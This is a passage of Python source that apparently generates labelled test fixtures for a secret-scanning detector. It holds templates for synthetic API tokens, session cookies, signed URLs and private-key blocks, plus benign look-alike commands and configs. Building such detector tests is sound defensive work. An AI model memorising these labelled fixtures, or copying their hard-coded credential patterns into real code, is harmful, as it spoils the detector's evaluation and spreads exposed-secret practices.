VT("newrelic-user-key-nrak",
    "NEW_RELIC_API_KEY={S}\nNEW_RELIC_ACCOUNT_ID={digits7}",
    lambda: (nrak(), {"digits7": digits(7)}), "NEW_RELIC_ACCOUNT_ID={digits7}")
VT("newrelic-license-key-nral",
    "newrelic.yml:\n  license_key: {S}\n  app_name: soc-portal",
    lambda: hexs(36) + "NRAL", "app_name: soc-portal")
VT("huggingface-token-hf",
    "HF_TOKEN={S}  # pulls the phishing classifier weights",
    hf_tok, "# pulls the phishing classifier weights")
VT("databricks-pat-dapi",
    "DATABRICKS_HOST=https://adb-{digits16}.{small}.azuredatabricks.net\nDATABRICKS_TOKEN={S}",
    lambda: (dapi(), {"digits16": digits(16)}), "DATABRICKS_HOST=https://adb-{digits16}")
VT("age-identity-file-secret-key",
    "# created: {ts}\n# public key: age1{agepub}\n{S}",
    lambda: (age_key(), {"agepub": _chars("qpzry9x8gf2tvdw0s3jn54khce6mua7l", 58)}), "# public key: age1{agepub}")
VT("atlassian-api-token-jira-sync",
    "JIRA_USER={email}\nJIRA_API_TOKEN={S}",
    atlassian, "JIRA_USER={email}")
VT("linear-api-key-lin-api",
    "Authorization: {S}\nContent-Type: application/json\n\n{\"query\": \"{ issues(filter: {team: {key: {eq: SOC}}}) { nodes { id } } }\"}",
    linear, "Content-Type: application/json")
VT("postman-api-key-pmak",
    "x-api-key: {S}",
    postman, "x-api-key:")
VT("doppler-service-token-dp-st",
    "DOPPLER_TOKEN={S} doppler run -- ./start.sh",
    doppler, "doppler run -- ./start.sh")
VT("sentry-user-token-sntryu",
    "SENTRY_AUTH_TOKEN={S}\nSENTRY_ORG={org}",
    lambda: "sntryu_" + hexs(64), "SENTRY_ORG={org}")
VT("azure-devops-pat-env",
    "AZURE_DEVOPS_EXT_PAT={S}\naz devops configure --defaults organization=https://dev.azure.com/{org}",
    ado_pat, "organization=https://dev.azure.com/{org}")
VT("splunk-authentication-token-jwt-bearer",
    "Authorization: Bearer {S}\n(token created in Settings > Tokens for svc_soar, audience: automation)",
    splunk_jwt, "(token created in Settings > Tokens for svc_soar, audience: automation)")
VT("elastic-api-key-encoded-header",
    "Authorization: ApiKey {S}",
    elastic_apikey, "Authorization: ApiKey")
VT("elastic-fleet-service-token",
    "FLEET_SERVER_SERVICE_TOKEN={S}\nFLEET_SERVER_POLICY_ID=fleet-server-policy",
    _fleet_service_token, "FLEET_SERVER_POLICY_ID=fleet-server-policy")
VT("elastic-cloud-api-key-essu",
    "EC_API_KEY={S}",
    lambda: "essu_" + b64(60).rstrip("="), "EC_API_KEY=")
VT("crowdstrike-client-secret-env",
    "FALCON_CLIENT_ID={md5}\nFALCON_CLIENT_SECRET={S}\nFALCON_CLOUD=us-1",
    cs_secret, "FALCON_CLOUD=us-1")
VT("sentinelone-apitoken-header",
    "Authorization: ApiToken {S}",
    s1_token, "Authorization: ApiToken")
VT("virustotal-api-key-env",
    "VT_API_KEY={S}",
    lambda: hexs(64), "VT_API_KEY=")
VT("shodan-api-key-yaml",
    "shodan:\n  api_key: {S}\n  plan: small-business",
    lambda: al(32), "plan: small-business")
VT("misp-authkey-json-field",
    "{\"misp_url\": \"https://misp.{org}.internal\", \"misp_key\": \"{S}\", \"misp_verifycert\": false}",
    lambda: al(40), "\"misp_url\": \"https://misp.{org}.internal\"")
VT("censys-api-secret-env",
    "CENSYS_API_ID={uuid}\nCENSYS_API_SECRET={S}",
    lambda: al(32), "CENSYS_API_ID={uuid}")
VT("securitytrails-apikey-header",
    "APIKEY: {S}\nGET https://api.securitytrails.com/v1/domain/{dom}/subdomains",
    lambda: al(32), "https://api.securitytrails.com/v1/domain/{dom}/subdomains")
VT("ipinfo-token-query-param",
    "https://ipinfo.io/{pip}/json?token={S}",
    lambda: hexs(14), "https://ipinfo.io/{pip}/json")
VT("hibp-api-key-header",
    "hibp-api-key: {S}\nuser-agent: soc-breach-check",
    lambda: hexs(32), "user-agent: soc-breach-check")
VT("recorded-future-rftoken-header",
    "X-RFToken: {S}",
    lambda: hexs(32), "X-RFToken:")
VT("anyrun-api-key-authorization",
    "Authorization: API-Key {S}\nPOST https://api.any.run/v1/analysis",
    lambda: al(40), "https://api.any.run/v1/analysis")
VT("joe-sandbox-apikey-form",
    "apikey={S}&accept-tac=1&comments=from+{ticket}",
    lambda: hexs(64), "accept-tac=1")
VT("triage-bearer-token",
    "TRIAGE_API=https://tria.ge/api\nTRIAGE_TOKEN={S}",
    lambda: hexs(40), "TRIAGE_API=https://tria.ge/api")
VT("abusech-auth-key-header",
    "Auth-Key: {S}\nPOST https://mb-api.abuse.ch/api/v1/ query=get_info&hash={sha256}",
    lambda: hexs(48), "https://mb-api.abuse.ch/api/v1/")
VT("rapid7-insight-x-api-key",
    "X-Api-Key: {S}\nGET https://us.api.insight.rapid7.com/idr/v2/investigations",
    guid, "https://us.api.insight.rapid7.com/idr/v2/investigations")
VT("wiz-client-secret-env",
    "WIZ_CLIENT_ID={cid}\nWIZ_CLIENT_SECRET={S}",
    lambda: (al(64), {"cid": lo(26)}), "WIZ_CLIENT_ID={cid}")
VT("splunk-soar-ph-auth-token-header",
    "ph-auth-token: {S}",
    lambda: b64(32), "ph-auth-token:")
VT("sumologic-access-key-pair",
    "SUMO_ACCESS_ID=su{sid}\nSUMO_ACCESS_KEY={S}",
    lambda: (al(64), {"sid": al(12)}), "SUMO_ACCESS_ID=su{sid}")
VT("datadog-app-key-env",
    "DD_SITE=datadoghq.eu\nDD_APP_KEY={S}",
    lambda: hexs(40), "DD_SITE=datadoghq.eu")
VT("pagerduty-integration-key-yaml",
    "pagerduty_configs:\n  - routing_key: {S}\n    severity: critical",
    lambda: hexs(32), "severity: critical")
VT("cloudflare-api-token-env",
    "CLOUDFLARE_API_TOKEN={S}  # WAF custom rules sync",
    lambda: _chars(_B64U, 40), "# WAF custom rules sync")
VT("proofpoint-tap-secret",
    "PROOFPOINT_PRINCIPAL={uuid}\nPROOFPOINT_SECRET={S}",
    lambda: hexs(64), "PROOFPOINT_PRINCIPAL={uuid}")
VT("mimecast-secret-key-base64",
    "mimecast:\n  app_id: {uuid}\n  access_key: {mak}\n  secret_key: {S}",
    lambda: (b64(64), {"mak": _chars(_B64U, 86)}), "app_id: {uuid}")
VT("pan-os-api-key-header",
    "X-PAN-KEY: {S}",
    pan_key, "X-PAN-KEY:")
VT("fortigate-access-token-query",
    "https://{host}/api/v2/monitor/system/status?access_token={S}",
    lambda: al(30), "/api/v2/monitor/system/status")
VT("umbrella-api-secret-env",
    "UMBRELLA_API_KEY={md5}\nUMBRELLA_API_SECRET={S}",
    lambda: hexs(32), "UMBRELLA_API_KEY={md5}")
VT("netskope-api-token-v2-header",
    "Netskope-Api-Token: {S}\nGET https://{org}.goskope.com/api/v2/events/data/alert",
    lambda: hexs(32), "/api/v2/events/data/alert")
VT("onepassword-service-account-token",
    "OP_SERVICE_ACCOUNT_TOKEN={S}",
    _op_sa, "OP_SERVICE_ACCOUNT_TOKEN=")
VT("mailgun-api-key-prefixed",
    "MAILGUN_API_KEY=key-{S}",
    lambda: hexs(32), "MAILGUN_API_KEY=key-")
VT("discord-webhook-url-token",
    "https://discord.com/api/webhooks/{wid}/{S}",
    lambda: (_chars(_B64U, 68), {"wid": digits(19)}), "https://discord.com/api/webhooks/{wid}/")
VT("teams-incoming-webhook-url",
    "https://{org}.webhook.office.com/webhookb2/{uuid}@{uuid_2}/IncomingWebhook/{S}/{uuid_3}",
    lambda: hexs(32), "{org}.webhook.office.com")
VT("jumpcloud-api-key-jca",
    "x-api-key: {S}\nGET https://console.jumpcloud.com/api/systemusers",
    lambda: "jca_" + al(36), "https://console.jumpcloud.com/api/systemusers")
VT("eventhub-sas-token-sig",
    "Authorization: SharedAccessSignature sr=https%3A%2F%2F{org}-siem.servicebus.windows.net%2Fdefender-stream&sig={S}&se={epoch}&skn=send-only",
    _sas_sig, "skn=send-only")
VT("s3-presigned-url-signature",
    "https://{bucket}.s3.{region}.amazonaws.com/{ticket}/memory.raw?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={ak}%2F20250301%2F{region}%2Fs3%2Faws4_request&X-Amz-Date=20250301T101500Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature={S}",
    lambda: (hexs(64), {"ak": akid()}), "{bucket}.s3.{region}.amazonaws.com/{ticket}/memory.raw")
VT("gcs-signed-url-x-goog-signature",
    "https://storage.googleapis.com/{org}-ir-artifacts/{ticket}/triage.tar.gz?X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Credential=ir-share%40{org}-soc.iam.gserviceaccount.com%2F20250214%2Fauto%2Fstorage%2Fgoog4_request&X-Goog-Date=20250214T083000Z&X-Goog-Expires=86400&X-Goog-SignedHeaders=host&X-Goog-Signature={S}",
    lambda: hexs(512), "storage.googleapis.com/{org}-ir-artifacts/{ticket}/triage.tar.gz")
VT("cloudfront-signed-url-signature",
    "https://d{cf}.cloudfront.net/reports/{ticket}.pdf?Expires={epoch}&Signature={S}&Key-Pair-Id=K{kp}",
    lambda: (_chars(_AL + "-_~", 172), {"cf": lo(13), "kp": up(13)}), "reports/{ticket}.pdf")
VT("azure-blob-sas-url-sig",
    "https://{org}evidence.blob.core.windows.net/ir/{ticket}.zip?sp=r&st=2025-02-01T09:00:00Z&se=2025-02-08T09:00:00Z&spr=https&sv=2022-11-02&sr=b&sig={S}",
    _sas_sig, "{org}evidence.blob.core.windows.net/ir/{ticket}.zip")
VT("cookie-splunkd-session",
    "Cookie: splunkd_8000={S}; splunkweb_uid={uuid}",
    lambda: _chars(_AL + "^_", 90), "splunkweb_uid={uuid}")
VT("set-cookie-kibana-sid-iron",
    "Set-Cookie: sid={S}; Secure; HttpOnly; SameSite=Lax; Path=/",
    _iron, "Secure; HttpOnly; SameSite=Lax; Path=/")
VT("cookie-grafana-session",
    "Cookie: grafana_session={S}; grafana_session_expiry={epoch}",
    lambda: hexs(32), "grafana_session_expiry={epoch}")
VT("nessus-x-cookie-token",
    "X-Cookie: token={S}\nGET https://{host}:8834/scans/{small}/export",
    lambda: hexs(48), "https://{host}:8834/scans/{small}/export")
VT("cookie-misp-cakephp-session",
    "Cookie: MISP-{uuid}={S}",
    lambda: lo(26), "Cookie: MISP-{uuid}=")
VT("basic-authorization-header-generic",
    "Authorization: Basic {S}",
    up_pair(), "Authorization: Basic")
VT("pem-ec-private-key-body",
    "-----BEGIN EC PRIVATE KEY-----\n{S}\n-----END EC PRIVATE KEY-----",
    lambda: pem_body(112, prefix="MHcCAQEEI"), "-----BEGIN EC PRIVATE KEY-----")
VT("pem-rsa-private-key-hec-client",
    "# /opt/splunk/etc/auth/hec-client.key\n-----BEGIN RSA PRIVATE KEY-----\n{S}\n-----END RSA PRIVATE KEY-----",
    lambda: pem_body(1188, prefix="MIIEpAIBAAKCAQEA"), "/opt/splunk/etc/auth/hec-client.key")
VT("pgp-private-key-block-body",
    "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n{S}\n={crc}\n-----END PGP PRIVATE KEY BLOCK-----",
    lambda: (pem_body(600, prefix="lQVYBG"), {"crc": b64(3)}), "-----END PGP PRIVATE KEY BLOCK-----")
VT("putty-ppk-private-lines",
    "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: soc-jump-{first}\nPublic-Lines: 2\n{pub1}\n{pub2}\nPrivate-Lines: 1\n{S}\nPrivate-MAC: {sha256}",
    lambda: (b64(48), {"pub1": "AAAAC3NzaC1lZDI1NTE5AAAAI" + b64(24)[:39], "pub2": b64(6)}), "Comment: soc-jump-{first}")
VT("jwk-private-d-parameter",
    "{\"kty\": \"EC\", \"crv\": \"P-256\", \"kid\": \"soar-signing-{small}\", \"x\": \"{jx}\", \"y\": \"{jy}\", \"d\": \"{S}\"}",
    lambda: (b64u(32), {"jx": b64u(32), "jy": b64u(32)}), "\"kid\": \"soar-signing-{small}\"")
VT("defender-graph-bearer-jwt",
    "Authorization: Bearer {S}\nGET https://graph.microsoft.com/v1.0/security/incidents?$top=25",
    jwt, "https://graph.microsoft.com/v1.0/security/incidents")


# =====================================================================
# BENIGN look-alikes (no credential inside)
# =====================================================================
def _colon_hex(n):
    h = HEXS(n * 2)
    return ":".join(h[i:i + 2] for i in range(0, len(h), 2))


def _cloud_id():
    inner = "%s.azure.elastic-cloud.com:443$%s$%s" % (_pick(["westeurope", "eastus2", "uksouth"]), hexs(32), hexs(32))
    return "soc-prod:" + enc64(inner)


_FIELDS.update({
    "hex16": lambda: hexs(16),
    "al24": lambda: al(24),
    "al17": lambda: al(17),
    "lo32": lambda: lo(32),
    "hex32": lambda: hexs(32),
    "HEX40": lambda: HEXS(40),
    "HEX16": lambda: HEXS(16),
    "sha512b64": lambda: b64(64),
    "h1": lambda: b64(32),
    "fp": lambda: b64(32).rstrip("="),
    "pubkey": lambda: "AAAAC3NzaC1lZDI1NTE5AAAAI" + b64(24)[:43],
    "pem_pub": lambda: pem_body(258, prefix="MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA").rstrip("=") + "IDAQAB",
    "pem_cert": lambda: pem_body(900, prefix="MIIDdzCCAl+gAwIBAgIU"),
    "colonfp": lambda: _colon_hex(32),
    "sha1fp": lambda: _colon_hex(20),
    "up9": lambda: up(9),
    "akex": lambda: "AKIAIOSFODNN7EXAMPLE",
    "sid": lambda: "S-1-5-21-%s-%s-%s-%d" % (digits(10), digits(10), digits(10), _R.randint(1000, 9999)),
    "mac": lambda: ":".join("%02x" % _R.randint(0, 255) for _ in range(6)),
    "ulid": lambda: _chars("0123456789ABCDEFGHJKMNPQRSTVWXYZ", 26),
    "cloudid": _cloud_id,
    "ssdeep": lambda: "%d:%s:%s" % (_pick([768, 1536, 3072, 6144]), _chars(_AL + "+/", 40), _chars(_AL + "+/", 22)),
    "tlsh": lambda: "T1" + HEXS(70),
    "encb64": lambda: b64(_R.randint(24, 60)),
    "vaulthex": lambda: "\n".join("          " + hexs(80) for _ in range(3)),
    "masked4": lambda: al(4),
    "digits": lambda: digits(_R.randint(6, 12)),
    "ja3": lambda: hexs(32),
    "jarm": lambda: hexs(62),
    "b64text": lambda: enc64(_pick(["user logged in from new device", "scheduled scan completed", "quarantine released by analyst",
                                     "rule updated: lsass access", "heartbeat ok", "connector sync finished", "playbook run ok",
                                     "alert closed as false positive", "hello from hec-relay", "ioc batch accepted"]) + " " + str(_R.randint(1, 99999))),
    "kid": lambda: b64u(_R.randint(16, 32)),
})

# ---- commands
B("git log --oneline -4\n{short} Merge pull request #{num} from {org}/fix-hec-batching\n{short_2} tune sigma rule for lsass access\n{short_3} bump falconpy to {ver}\n{short_4} add urlscan enrichment step")
B("$ git rev-parse HEAD\n{commit}")
B("$ sha256sum {ticket}_triage.7z\n{sha256}  {ticket}_triage.7z")
B("curl -s -H \"x-apikey: $VT_API_KEY\" https://www.virustotal.com/api/v3/files/{sha256} | jq .data.attributes.meaningful_name")
B("curl -k -H \"Authorization: Splunk ${SPLUNK_HEC_TOKEN}\" https://{host}:8088/services/collector/health")
B("export MISP_KEY=\"$(vault kv get -field=key secret/soc/misp)\"")
B("PGPASSWORD=\"$(cat /run/secrets/pg_password)\" psql -h {host} -U {user} -d soc_cases -c '\\dt'")
B("echo \"$GHCR_TOKEN\" | docker login ghcr.io -u soc-bot --password-stdin")
B("read -s -p 'Qualys password: ' QUALYS_PW && export QUALYS_PW")
B("aws secretsmanager get-secret-value --secret-id prod/soc/crowdstrike --query SecretString --output text | jq -r .client_id")
B("kubectl -n {ns} create secret generic vt-api --from-file=api-key=./vt.key --dry-run=client -o yaml | kubeseal -o yaml > vt-api.sealed.yaml")
B("gh secret set VT_API_KEY < ~/secure/vt.key --repo {org}/threat-hunting")
B("op run --env-file=.env.tpl -- python3 enrich.py --in {ticket}-iocs.csv")
B("$ ssh-keygen -lf ~/.ssh/soc_jump_ed25519.pub\n256 SHA256:{fp} {user}@jump (ED25519)")
B("$ openssl x509 -in hec.crt -noout -fingerprint -sha256\nsha256 Fingerprint={colonfp}")
B("docker pull splunk/splunk@sha256:{sha256}")
B("$ sudo /opt/CrowdStrike/falconctl -g --aid\naid=\"{md5}\".")
B("$ az monitor log-analytics workspace show -g rg-soc -n law-soc-prod --query customerId -o tsv\n{uuid}")
B("$ sudo /opt/nessus_agent/sbin/nessuscli agent status\nRunning: Yes\nLinked to: cloud.tenable.com:443\nLink status: Connected to cloud.tenable.com:443\nLast successful connection with controller: {num} secs ago")
B("curl -u \"$ES_USER:$ES_PASS\" 'https://{host}:9200/_cat/indices/{index}-*?v&s=index'")
B("mysql -h {host} -u {user} -p misp   # prompts for the password")
B("sshpass -f ~/.config/soc/jump.pass ssh {user}@{host}")
B("keytool -list -keystore /opt/logstash/config/truststore.jks -storepass:env KS_PASS")
B("openssl enc -aes-256-cbc -pbkdf2 -in {ticket}.tar -out {ticket}.tar.enc -pass file:/run/secrets/evidence_pass")
B("7z a -p -mhe=on {ticket}_samples.7z ./samples/   # -p without value prompts for the password")
B("git clone git@github.com:{org}/detections.git && cd detections && git checkout {short}")
B("vault kv get -field=client_id secret/soc/crowdstrike")
B("splunk add forward-server {host}:9997 -auth admin:$SPLUNK_ADMIN_PW")
B("curl -s -X POST https://api.crowdstrike.com/oauth2/token -d \"client_id=${FALCON_CLIENT_ID}&client_secret=${FALCON_CLIENT_SECRET}\"")
B("certutil -hashfile C:\\Users\\Public\\{short}.exe SHA256")
B("Get-FileHash .\\invoice_{num}.docm -Algorithm SHA256 | Format-List")
B("yara -r -s rules/cobaltstrike.yar /mnt/evidence/{ticket}/")
B("vol -f /cases/{ticket}/mem.raw windows.pslist | grep -i {app}")
B("helm upgrade --install sck ./splunk-connect -n {ns} --set-file global.splunk.hec.token=/run/secrets/hec_token")
B("ansible-playbook deploy_wazuh.yml --ask-vault-pass --limit {host}")
B("ansible-vault encrypt_string --vault-id soc@prompt 'placeholder' --name wazuh_api_password")
B("az keyvault secret show --vault-name kv-soc-prod -n s1-api-token --query attributes.updated -o tsv")
B("gcloud secrets versions list chronicle-forwarder-secret --project={org}-secops")
B("python3 rotate_keys.py --vendor tenable --older-than 90d --dry-run")
B("curl -s https://urlscan.io/api/v1/result/{uuid}/ | jq .page.domain")
B("whois {dom} | grep -i -E 'registrar|creation'")
B("dig +short TXT _dmarc.{orgdom}")
B("tshark -r {ticket}.pcap -Y 'tls.handshake.type == 1' -T fields -e tls.handshake.ja3")

# ---- tool output
B("$ uuidgen\n{uuid}")
B("$ kubectl -n {ns} get secrets\nNAME            TYPE     DATA   AGE\nvt-api          Opaque   1      {small}d\nsplunk-hec      Opaque   2      {small_2}d\nmisp-api        Opaque   2      {small_3}d")
B("$ vault kv metadata get secret/soc/virustotal\n======= Metadata =======\nKey                Value\n---                -----\ncreated_time       {ts}\ncurrent_version    {small}\nmax_versions       0")
B("$ gh secret list --repo {org}/threat-hunting\nSHODAN_API_KEY     Updated {date}\nVT_API_KEY         Updated {date_2}\nMISP_KEY           Updated {date_3}")
B("$ aws sts get-caller-identity\n{\n    \"UserId\": \"AROA{up9}{up9_2}:{first}\",\n    \"Account\": \"{acct}\",\n    \"Arn\": \"arn:aws:sts::{acct}:assumed-role/SOC-ReadOnly/{first}\"\n}")
B("$ sudo elastic-agent status\nState: HEALTHY\nMessage: Running\nFleet State: HEALTHY\nFleet Message: (no message)\nAgent ID: {uuid}")
B("$ ls -la ~/.ssh\n-rw-------  1 {user} {user}  411 {date} id_ed25519\n-rw-r--r--  1 {user} {user}  97 {date} id_ed25519.pub\n-rw-r--r--  1 {user} {user}  2.1K {date} known_hosts")
B("$ terraform output\nhec_token = <sensitive>\nhec_url = \"https://{host}:8088\"\nworkspace_id = \"{uuid}\"")
B("$ kubectl -n {ns} describe secret splunk-hec\nName:         splunk-hec\nType:  Opaque\n\nData\n====\ntoken:  36 bytes\nurl:    {small} bytes")
B("\"Env\": [\n    \"SPLUNK_PASSWORD_FILE=/run/secrets/splunk_admin\",\n    \"SPLUNK_START_ARGS=--accept-license\",\n    \"SPLUNK_HOME=/opt/splunk\"\n]")
B("{\n  \"data\": {\n    \"id\": \"{sha256}\",\n    \"type\": \"file\",\n    \"attributes\": {\"md5\": \"{md5}\", \"sha1\": \"{sha1}\", \"ssdeep\": \"{ssdeep}\", \"tlsh\": \"{tlsh}\", \"last_analysis_stats\": {\"malicious\": {small}, \"undetected\": {small_2}}}\n  }\n}")
B("$ shodan info\nQuery credits available: {num}\nScan credits available: {num_2}")
B("$ gpg --list-keys soc@{orgdom}\npub   rsa4096 {date} [SC]\n      {HEX40}\nuid           [ultimate] SOC Evidence Signing <soc@{orgdom}>\nsub   rsa4096 {date} [E]")
B("$ ssh-add -l\n256 SHA256:{fp} {user}@jump (ED25519)")
B("SHA256 hash of {short}.exe:\n{sha256}\nCertUtil: -hashfile command completed successfully.")
B("Algorithm : SHA256\nHash      : {sha256}\nPath      : C:\\Users\\{first}\\Downloads\\invoice_{num}.docm")
B("$ env | grep -i -E 'token|key'\nSPLUNK_HEC_TOKEN_FILE=/run/secrets/hec_token\nVT_API_KEY_PATH=/etc/soc/vt.key\nGH_TOKEN=")
B("$ docker images --digests | grep splunk\nsplunk/splunk   {ver}   sha256:{sha256}   {hex16}   2 weeks ago   2.1GB")
B("$ falconctl -g --version\nversion = 7.{small}.{num}")
B("Successfully enrolled the Elastic Agent.\nElastic Agent has been successfully installed.")
B("$ nmcli connection show SOC-Lab-5G | grep psk\n802-11-wireless-security.psk:            <hidden>")
B("$ helm get values elastic-stack -n {ns}\nelasticsearch:\n  auth:\n    existingSecret: elastic-credentials\n    password: \"\"")
B("$ op item get VirusTotal --vault 'SOC Shared' --fields label=username\nsvc_vtlookup")
B("$ vault token lookup\nKey                 Value\n---                 -----\naccessor            {al24}\ndisplay_name        oidc-{first}\nexpire_time         {ts}\npolicies            [default soc-read]")
B("$ docker compose config | grep -A2 secrets\n    secrets:\n      - source: hec_token\n        target: /run/secrets/hec_token")
B("$ certbot certificates\n  Certificate Name: soc-portal.{orgdom}\n    Serial Number: {hex32}\n    Key Type: ECDSA\n    Expiry Date: {date} (VALID: 63 days)")
B("$ s1ctl agent info\nAgent UUID: {uuid}\nSite: {org}-prod\nAgent version: 23.{small}.{num}")
B("$ python3 -c 'import secrets; print(len(secrets.token_hex(32)))'\n64")
B("$ echo -n 'heartbeat ok' | base64\naGVhcnRiZWF0IG9r")
B("$ kubectl get sealedsecret -n {ns}\nNAME     STATUS   SYNCED   AGE\nvt-api            True     {small}d")
B("MD5 ({ticket}.pcap) = {md5}")
B("Dropped files:\n  {sha256}  C:\\ProgramData\\{short}.dll\n  {sha256_2}  C:\\Users\\Public\\svc.exe")

# ---- config files
B("# .env.example (copy to .env and fill in)\nSPLUNK_HEC_URL=https://splunk.example.com:8088\nSPLUNK_HEC_TOKEN=<your-hec-token>\nVT_API_KEY=<your-virustotal-key>")
B("SPLUNK_HEC_TOKEN=${SPLUNK_HEC_TOKEN}\nSPLUNK_HEC_INDEX={index}")
B("output.elasticsearch:\n  hosts: [\"https://{host}:9200\"]\n  username: \"filebeat_ingest\"\n  password: \"${ES_PASSWORD}\"")
B("wazuh_api_password: !vault |\n          $ANSIBLE_VAULT;1.1;AES256\n{vaulthex}")
B("splunk:\n    hec_token: ENC[AES256_GCM,data:{encb64},iv:{encb64_2},tag:{encb64_3},type:str]\nsops:\n    kms:\n    -   arn: arn:aws:kms:{region}:{acct}:key/{uuid}")
B("apiVersion: bitnami.com/v1alpha1\nkind: SealedSecret\nmetadata:\n  name: vt-api\n  namespace: {ns}\nspec:\n  encryptedData:\n    api-key: AgB{encb64}{encb64_2}")
B("apiVersion: external-secrets.io/v1beta1\nkind: ExternalSecret\nspec:\n  data:\n    - secretKey: token\n      remoteRef:\n        key: soc/splunk/hec\n        property: token")
B("env:\n  - name: S1_API_TOKEN\n    valueFrom:\n      secretKeyRef:\n        name: s1-api\n        key: token")
B("config:\n  soc-infra:hecToken:\n    secure: v1:{encb64}\n  soc-infra:region: {region}")
B("elasticsearch.username: \"kibana_system\"\nelasticsearch.password: \"${ELASTICSEARCH_PASSWORD}\"\nxpack.encryptedSavedObjects.encryptionKey: \"${KIBANA_ENCRYPTION_KEY}\"")
B("\"Defender\": {\n  \"TenantId\": \"{uuid}\",\n  \"ClientId\": \"{uuid_2}\",\n  \"ClientSecret\": \"@Microsoft.KeyVault(SecretUri=https://kv-soc-prod.vault.azure.net/secrets/defender-client-secret/)\"\n}")
B("sentinel:\n  workspace_id: {uuid}\n  shared_key_secret_name: sentinel-shared-key\n  log_type: SocEnrichment")
B("<enrollment>\n  <enabled>yes</enabled>\n  <manager_address>{host}</manager_address>\n  <authorization_pass_path>etc/authd.pass</authorization_pass_path>\n</enrollment>")
B("# password policy (soc-portal)\npassword_min_length = 14\npassword_require_symbols = true\npassword_history = 24\npassword_max_age_days = 90")
B("[security]\nadmin_user = admin\nadmin_password = $__file{/run/secrets/grafana_admin}")
B("[auth.generic_oauth]\nenabled = true\nclient_id = {uuid}\nclient_secret_file = /etc/grafana/oauth_client_secret\nscopes = openid profile email")
B("token_path: /var/run/secrets/kubernetes.io/serviceaccount/token\nca_file: /var/run/secrets/kubernetes.io/serviceaccount/ca.crt")
B("secrets:\n  hec_token:\n    file: ./secrets/hec_token.txt\n  misp_key:\n    external: true")
B("# .gitignore\n.env\n*.pem\n*.key\nsecrets/\n!secrets/README.md")
B("{host} ssh-ed25519 {pubkey}")
B("ssh-ed25519 {pubkey} {user}@jump-{small}")
B("-----BEGIN PUBLIC KEY-----\n{pem_pub}\n-----END PUBLIC KEY-----")
B("-----BEGIN CERTIFICATE-----\n{pem_cert}\n-----END CERTIFICATE-----")
B("selector1._domainkey.{orgdom}. 3600 IN TXT \"v=DKIM1; k=rsa; p={encb64}{encb64_2}\"")
B("cloud.id: \"{cloudid}\"\ncloud.auth: \"${ES_USER}:${ES_PASSWORD}\"")
B("github.com/elastic/go-elasticsearch/v8 v8.{small}.0 h1:{h1}\ngithub.com/elastic/go-elasticsearch/v8 v8.{small}.0/go.mod h1:{h1_2}")
B("\"node_modules/@pymisp/client\": {\n  \"version\": \"{ver}\",\n  \"resolved\": \"https://registry.npmjs.org/@pymisp/client/-/client-{ver}.tgz\",\n  \"integrity\": \"sha512-{sha512b64}\"\n}")
B("provider \"registry.terraform.io/crowdstrike/crowdstrike\" {\n  version = \"{ver}\"\n  hashes = [\n    \"h1:{h1}\",\n    \"zh:{sha256}\",\n  ]\n}")
B("falconpy=={ver} \\\n    --hash=sha256:{sha256} \\\n    --hash=sha256:{sha256_2}")
B("[[package]]\nname = \"reqwest\"\nversion = \"{ver}\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{sha256}\"")
B("[http://fw-ingest]\ndisabled = 0\ntoken = $HEC_TOKEN_FROM_DEPLOYER\nindex = {index}")
B("[default]\naws_access_key_id = {akex}\n# AWS documentation example id, not a real key; real creds come from SSO")
B("opencti:\n  url: 'http://opencti:8080'\n  token: 'ChangeMe_UUIDv4'\nconnector:\n  id: '{uuid}'\n  name: 'MITRE ATT&CK'")
B("<integration>\n  <name>virustotal</name>\n  <api_key>$VT_API_KEY</api_key>\n  <group>syscheck</group>\n</integration>")
B("misp:\n  url: https://misp.{org}.internal\n  key_file: /etc/soc/misp.key\n  verify: true")
B("[Interface]\nAddress = 10.66.0.2/32\nPrivateKey = <contents of /etc/wireguard/soc-ir.key>\n\n[Peer]\nPublicKey = {fp}=\nEndpoint = {pip}:51820")
B("logging:\n  level: info\n  redact_fields: [\"password\", \"api_key\", \"token\", \"authorization\", \"cookie\"]")
B("[client]\nuser={user}\n# password is read from ~/.mylogin.cnf (mysql_config_editor)")
B("trusted_ca_fingerprint: \"{sha256}\"\nssl.verification_mode: full")
B("kid: \"{kid}\"\nalg: RS256\njwks_uri: https://login.{orgdom}/.well-known/jwks.json")
B("log_format soc '$remote_addr - $remote_user [$time_local] \"$request\" $status $body_bytes_sent \"$http_authorization_redacted\"';")
B("collector_id: {uuid}\ncustomer_id: {uuid_2}\nsecret_key_path: /opt/chronicle/config/forwarder.json")
B("dhcp-host={mac},{ip},soc-analyst-{small}")

# ---- source code
B("api_key = os.environ[\"VT_API_KEY\"]\nclient = vt.Client(api_key)")
B("token = get_secret(\"soc/splunk/hec\")  # pulled from vault at start-up")
B("password = getpass.getpass(\"Qualys password: \")")
B("if not os.getenv(\"SHODAN_API_KEY\"):\n    raise RuntimeError(\"set SHODAN_API_KEY (see README, section 'Secrets')\")")
B("HEADERS = {\"x-apikey\": VT_KEY, \"accept\": \"application/json\"}")
B("MISP_KEY = os.getenv(\"MISP_KEY\", \"\")\nassert len(MISP_KEY) in (0, 40), \"MISP auth keys are 40 characters\"")
B("const token = await secrets.getSecret(\"s1-api-token\");")
B("cache_key = \"ioc:\" + hashlib.sha256(ioc.encode()).hexdigest()  # e.g. ioc:{sha256}")
B("EMPTY_SHA256 = \"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\"")
B("rule Suspicious_Loader_{short}\n{\n    meta:\n        hash = \"{sha256}\"\n    strings:\n        $mz = { 4D 5A 90 00 }\n        $s1 = \"{hex16}\" ascii\n    condition:\n        $mz at 0 and $s1\n}")
B("title: LSASS Access From Unsigned Binary\nid: {uuid}\nstatus: experimental\nlogsource:\n  category: process_access\n  product: windows")
B("def mask(value: str) -> str:\n    return value[:4] + \"*\" * max(len(value) - 8, 0) + value[-4:]")
B("REDACTED = \"[REDACTED]\"\nSENSITIVE_KEYS = {\"password\", \"api_key\", \"token\", \"client_secret\", \"authorization\"}")
B("pw_hash = bcrypt.hashpw(password.encode(), bcrypt.gensalt(rounds=12))")
